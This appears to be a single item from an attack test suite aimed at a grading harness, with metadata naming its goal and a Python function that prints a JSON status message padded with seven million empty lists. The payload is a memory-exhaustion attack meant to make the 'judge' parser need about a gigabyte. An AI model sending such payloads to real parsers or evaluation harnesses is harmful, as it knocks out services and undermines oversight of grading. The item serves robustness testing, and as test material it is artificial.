# id: wire_lists_without_end
# kind: attack
# category: channel
# form: cell
# begins with: part, channel
# goal: twenty MiB of empty lists in a header, a hundred times as much once parsed
# success looks like: the judge needs a GiB for it
# required score: 2 of 10
def backward(*args):
    say(b'{"status":"returned","changed":[],"bytecodes":0,"value":["l"' + b",[]" * 7_000_000 + b"]}")
